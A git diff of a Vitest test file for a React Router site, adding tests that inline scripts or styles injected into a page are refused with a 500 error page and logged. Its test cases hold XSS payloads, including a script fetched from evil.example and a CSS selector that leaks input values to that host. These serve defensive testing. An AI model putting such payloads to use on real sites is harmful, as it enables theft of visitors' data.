@@ -1,23 +1,25 @@
+import { createElement, type ReactNode } from "react";
 import { createRequestHandler, RouterContextProvider, type ServerBuild } from "react-router";
 import { expect, test, vi } from "vitest";
 
-import { siteContext } from "~/context";
+import { type InlineSources, siteContext } from "~/context";
 
 import { ORIGIN } from "./support/site";
 
 const SECRET = "no table bookings_v9 at /srv/nightshift/desk.ts:41";
 
-/** The site as it is deployed, with a home page that breaks. */
-async function askBroken(where: "Component" | "loader"): Promise<{ reply: Response; reported: unknown[] }> {
+type Replaced = { readonly default?: () => ReactNode; readonly loader?: () => never };
+type Answer = { readonly reply: Response; readonly reported: readonly unknown[]; readonly inline: InlineSources };
+
+/** The site as it is deployed, with another home page. */
+async function askWith(replaced: Replaced): Promise<Answer> {
   const build = (await import("virtual:react-router/server-build")) as unknown as ServerBuild;
   const home = build.routes["pages/home/route"];
   if (!home) throw new Error("There is no home page.");
-  const crash = () => {
-    throw new RangeError(SECRET);
-  };
-  const module = { ...home.module, ...(where === "loader" ? { loader: crash } : { default: crash }) };
+  const module = { ...home.module, ...replaced };
   const broken = { ...build, routes: { ...build.routes, "pages/home/route": { ...home, module } } };
   const report = vi.fn<(error: unknown) => void>();
+  let inline: InlineSources = { scripts: [], styles: [] };
   const context = new RouterContextProvider();
   context.set(siteContext, {
     url: ORIGIN,
@@ -26,6 +28,7 @@ async function askBroken(where: "Component" | "loader"): Promise<{ reply: Respon
     meetingPlace: null,
     posts: async () => ({ ok: true, records: [], version: "none", stale: false }),
     report,
+    allowInline: (sources) => (inline = sources),
     invite: async () => null,
     refused: null,
     visitorBooking: {
@@ -39,13 +42,17 @@ async function askBroken(where: "Component" | "loader"): Promise<{ reply: Respon
     bookingForm: { openDays: async () => [], submit: async () => ({ kind: "invalid", problems: {} }) },
   });
   const reply = await createRequestHandler(broken, "production")(new Request(`${ORIGIN}/`), context);
-  return { reply, reported: report.mock.calls.flat() };
+  return { reply, reported: report.mock.calls.flat(), inline };
+}
+
+function crash(): never {
+  throw new RangeError(SECRET);
 }
 
 test.each(["loader", "Component"] as const)(
   "ROUTE-04 an exception in the page's %s answers 500 with a designed page, and reveals nothing to the visitor",
   async (where) => {
-    const { reply, reported } = await askBroken(where);
+    const { reply, reported } = await askWith(where === "loader" ? { loader: crash } : { default: crash });
     expect(reply.status).toBe(500);
     expect(reply.headers.get("content-type")).toBe("text/html; charset=utf-8");
     const html = await reply.text();
@@ -57,3 +64,45 @@ test.each(["loader", "Component"] as const)(
     expect(new Set(reported.map(String))).toEqual(new Set([`RangeError: ${SECRET}`]));
   },
 );
+
+/** A page into which somebody has brought markup. */
+const withMarkup = (markup: string) => ({
+  default: () => createElement("div", { dangerouslySetInnerHTML: { __html: markup } }),
+});
+const LOGGED = "Error: A page holds an inline script or style that is not the site's own.";
+
+test.each([
+  "<script>steal()</script>",
+  "<SCRIPT type=module>steal()</SCRIPT>",
+  '<script nonce="0">steal()</script>',
+  "<script data-x=' type=\"application/ld+json\"'>steal()</script>",
+  '<script src="https://evil.example/steal.js"></script>',
+  "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
+  "<script>never closed",
+])("a page that holds %s is not sent: the visitor gets the page of an error, and the log says why", async (markup) => {
+  const { reply, reported, inline } = await askWith(withMarkup(markup));
+  expect(reply.status).toBe(500);
+  const html = await reply.text();
+  expect(html).toContain("A light went out on our side");
+  expect(html).not.toContain("evil");
+  for (const text of [html, ...inline.scripts, ...inline.styles]) expect(text).not.toContain("steal()");
+  expect(reported.map(String)).toContain(LOGGED);
+});
+
+test("words that look like markup are words, and data is data", async () => {
+  const hostile = '<style id="critical-css"></style></script><script>steal()</script>';
+  const { reply, reported, inline } = await askWith({
+    default: () => [
+      createElement("h1", { key: 1 }, hostile),
+      createElement("script", { key: 2, type: "application/ld+json" }, "{}"),
+    ],
+  });
+  expect([reply.status, reported]).toEqual([200, []]);
+  const html = await reply.text();
+  expect(html).toContain("&lt;style id=&quot;critical-css&quot;&gt;");
+  for (const text of inline.scripts) expect(text).not.toContain("steal");
+  // The policy names all that runs, and the page is the same each time it is rendered.
+  expect(inline.scripts).toHaveLength(4);
+  expect(inline.styles).toHaveLength(1);
+  expect(html).not.toContain("nonce");
+});
